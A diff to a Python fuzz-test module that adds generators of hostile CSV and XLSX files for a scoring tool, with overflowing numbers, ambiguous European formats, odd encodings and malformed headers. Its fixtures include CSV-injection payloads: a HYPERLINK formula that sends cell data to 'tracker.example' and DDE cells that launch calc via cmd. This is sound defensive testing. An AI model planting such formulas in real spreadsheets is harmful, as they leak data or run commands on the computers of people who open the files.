@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import re
+from dataclasses import dataclass
 from typing import Any
 
 from hypothesis import strategies as st
@@ -499,6 +500,200 @@ def hostile_stdin(draw: st.DrawFn, request: Any) -> bytes:
     return body
 
 
+# --- Hostile spreadsheets (python -m calculators score): CSV and XLSX files as exports and attackers write them ---
+
+#: Text cells a spreadsheet would run as a formula (CSV injection), and near misses.
+FORMULA_CELLS = (
+    '=HYPERLINK("http://tracker.example/?d="&A2,"Acme")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "=1+1",
+    "\t=1+1",
+    "\r=1+1",
+    "=",
+    "+",
+    "@",
+    " =1+1",
+    "'=1+1",
+    "-5",
+    "+1.5",
+)
+#: Numbers at and past the ends of a float, and special values, as text cells.
+HUGE_NUMBER_CELLS = (
+    "1e308",
+    "1.7976931348623157e308",
+    "1e309",
+    "-1e309",
+    "9" * 400,
+    "1" + "0" * 5000,
+    "1e-400",
+    "-0",
+    "NaN",
+    "Infinity",
+    "1_000",
+)
+#: Numbers written with a decimal comma or thousands groups, as a ``;`` export writes them (ambiguous ones too).
+EURO_NUMBER_CELLS = (
+    "120.000,50",
+    "1.234",
+    "12,500",
+    "0,5",
+    "1 234,5",
+    "1\u00a0234,5",
+    "1.234.567",
+    "1,234.5",
+    "30.000",
+    "72,5",
+    "€120.000",
+    ",5",
+    "1.2.3",
+)
+#: Headers no export should have: empty, blank, huge, formula-like, with control characters, a
+#: byte-order mark or a zero-width space, quotes, separators and line breaks.
+HOSTILE_HEADERS = (
+    "",
+    " ",
+    "h" * 70_000,
+    '=HYPERLINK("http://x")',
+    "@health",
+    "\ufeffnotes",
+    "not\u200bes",
+    "col\x00umn",
+    "a\r\nb",
+    '"',
+    "x;y",
+    "x,y",
+    "x\ty",
+    "<b>bold</b>",
+    "\ud800",
+)
+#: Encodings a CSV may come in (``utf-16`` writes a byte-order mark, as Excel's "Unicode text" does).
+SHEET_ENCODINGS = ("utf-8", "utf-8", "utf-8-sig", "utf-16", "cp1252")
+#: The columns every generated sheet has; ``fuzz_row`` numbers the data rows from 1 (it is never blank,
+#: so every record is a data row) and is copied to the output like any column the scorer does not use.
+SHEET_COLUMNS = ("fuzz_row", "account", "arr", "health")
+
+hostile_sheet_text = st.one_of(
+    st.sampled_from(FORMULA_CELLS),
+    st.sampled_from(HUGE_NUMBER_CELLS),
+    st.sampled_from(EURO_NUMBER_CELLS),
+    st.sampled_from(HOSTILE_STRINGS),
+    st.sampled_from(BATCH_MISSING),
+    st.text(max_size=12),
+)
+
+
+@dataclass(frozen=True)
+class HostileSheet:
+    """A generated input file for ``python -m calculators score`` and what a correct run makes of it."""
+
+    suffix: str  #: ``.csv`` or ``.xlsx``
+    data: bytes
+    args: tuple[str, ...]  #: extra options (``--encoding``)
+    rows: int  #: data records, ``fuzz_row`` 1 … rows
+    #: ``fuzz_row`` → the ARR the row was written from (so a scored row must read it back exactly);
+    #: empty when a hostile header could stand for a column the scorer reads.
+    arr: dict[int, float]
+    note: str  #: how it was written, for a failing example's report
+
+
+def _euro(value: float) -> str:
+    """``value`` written as a ``;`` export does: ``120.000,50`` (always with its decimals, so it is never ambiguous)."""
+    return f"{value:,.2f}".replace(",", " ").replace(".", ",").replace(" ", ".")
+
+
+def _xlsx_bytes(header: list[str], records: list[list[Any]]) -> bytes:
+    """A workbook with one sheet: text cells stay text (a formula-like one is an inert string, as an export holds it)."""
+    import io
+
+    import openpyxl
+    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
+
+    book = openpyxl.Workbook()
+    sheet = book.active
+    assert sheet is not None
+    for r, values in enumerate([header, *records], start=1):
+        for c, value in enumerate(values, start=1):
+            cell = sheet.cell(row=r, column=c)
+            if isinstance(value, str):
+                cell.value = ILLEGAL_CHARACTERS_RE.sub("", value.encode("utf-8", "replace").decode("utf-8"))[:32_000]
+                cell.data_type = "s"
+            else:
+                cell.value = value
+    buffer = io.BytesIO()
+    book.save(buffer)
+    return buffer.getvalue()
+
+
+@st.composite
+def hostile_sheet(draw: st.DrawFn) -> HostileSheet:
+    """A CSV (``,``, ``;`` or tab separated, in one of :data:`SHEET_ENCODINGS`, with or without
+    ``--encoding``) or an XLSX file of a few accounts: account names and extra cells from
+    :data:`FORMULA_CELLS`, :data:`HUGE_NUMBER_CELLS`, :data:`EURO_NUMBER_CELLS` and the hostile strings,
+    extra columns under :data:`HOSTILE_HEADERS`, and most ARRs written from a known value in the
+    file's own number format (``120.000,50`` in a ``;`` file)."""
+    kind = draw(st.sampled_from(("csv", "csv", "semicolon", "semicolon", "tab", "xlsx")))
+    extra = draw(st.lists(st.sampled_from(HOSTILE_HEADERS), max_size=2))
+    header = [*SHEET_COLUMNS, *extra]
+    order = draw(st.permutations(range(len(header))))
+    n = draw(st.integers(min_value=1, max_value=8))
+    records: list[list[Any]] = []
+    arr: dict[int, float] = {}
+    tame = draw(st.booleans())  # every row valid but for its formula-like account names: a file scored whole
+    for row in range(1, n + 1):
+        if tame:
+            account = draw(st.one_of(batch_valid_account_text, st.sampled_from(FORMULA_CELLS[:4])))
+            health: Any = draw(batch_score_text)
+        else:
+            account = draw(st.one_of(batch_valid_account_text, st.sampled_from(FORMULA_CELLS), hostile_sheet_text))
+            health = draw(st.one_of(batch_score_text, hostile_sheet_text))
+        if tame or draw(st.integers(min_value=0, max_value=4)):
+            value = round(draw(st.floats(min_value=0.01, max_value=1e9)), 2)
+            arr[row] = value
+            cell: Any = value if kind == "xlsx" else _euro(value) if kind in ("semicolon", "tab") else f"{value:.2f}"
+        else:
+            cell = draw(st.one_of(hostile_sheet_text, st.sampled_from(("1e308", "-1e308", "1.7976931348623157e308"))))
+        if not tame and kind == "xlsx" and draw(st.booleans()):
+            health = draw(st.one_of(st.floats(allow_nan=False, allow_infinity=False), st.integers(-(10**20), 10**20)))
+        elif not tame and kind in ("semicolon", "tab") and draw(st.booleans()):
+            health = draw(st.sampled_from(("72,5", "0,5", "99,99", "100", "35")))
+        values = [row if kind == "xlsx" else str(row), account, cell, health, *(draw(hostile_sheet_text) for _ in extra)]
+        records.append([values[i] for i in order])
+    header = [header[i] for i in order]
+    known = {"account", "arr", "health", "fuzz_row", "name", "customer", "company"}
+    if any(re.sub(r"[^a-z0-9]+", "", h.lower()) in known or not h.strip() for h in extra):
+        arr = {}  # a second column could stand for one the scorer reads: no promise which one it reads
+    if kind == "xlsx":
+        return HostileSheet(".xlsx", _xlsx_bytes(header, records), (), n, arr, "xlsx")
+    import csv
+    import io
+
+    delimiter = {"csv": ",", "semicolon": ";", "tab": "\t"}[kind]
+    text = io.StringIO()
+    csv.writer(text, delimiter=delimiter).writerows([header, *records])
+    encoding = draw(st.sampled_from(SHEET_ENCODINGS))
+    args: tuple[str, ...] = ("--encoding", encoding) if draw(st.booleans()) else ()
+    data = text.getvalue().encode(encoding, "replace")
+    return HostileSheet(".csv", data, args, n, arr, f"{kind} in {encoding} {' '.join(args)}")
+
+
+#: Canned files, each a reproduction of the issue (one line each): score answers them by the contract.
+HOSTILE_SHEETS = {
+    "formula names": b'account,arr,health\n"=HYPERLINK(""http://x"",""y"")",1000,80\n+cmd|\' /C calc\'!A0,1000,80\n@SUM(1+1),1000,80\n',
+    "semicolon thousands dots": b"account;arr;health\nAcme;1.250.000;80\nBeta;30.000;35\n",
+    "semicolon ambiguous": b"account;arr;health\nAcme;45000;80\nBeta;30.000;35\n",
+    "semicolon two ways": b"account;arr;health\nAcme;120.000,50;80\nBeta;72.5;35\n",
+    "utf-16 with a byte-order mark": "account\tarr\thealth\nAcmé\t1000\t80\n".encode("utf-16"),
+    "header over 64 KB": ("h" * 70_000 + ",account,arr,health\nx,Acme,1000,80\n").encode(),
+    "float overflow": b"account,arr,health\nAcme,1e308,80\nBeta,1e309,80\nGamma,1.7976931348623157e308,1e308\n",
+    "a 5000-digit number": ("account,arr,health\nAcme," + "9" * 5000 + ",80\n").encode(),
+    "empty header": b",,\n1,2,3\n",
+    "only a header": b"account,arr,health\n",
+    "binary": b"account,arr,health\n\x00\x01\x02",
+}
+
+
 # --- Hostile YAML (python -m cslibrary validate): library files anyone can put in a pull request ---
 
 #: A token the YAML attacks repeat, longer than a problem quotes: it must never reach a problem line whole.
@@ -679,3 +874,4 @@ def hostile_yaml(draw: st.DrawFn, valid: bytes) -> bytes:
         )
         lines[at] = (key + b": " if sep else b"id: ") + value
     return b"\n".join(lines)
+
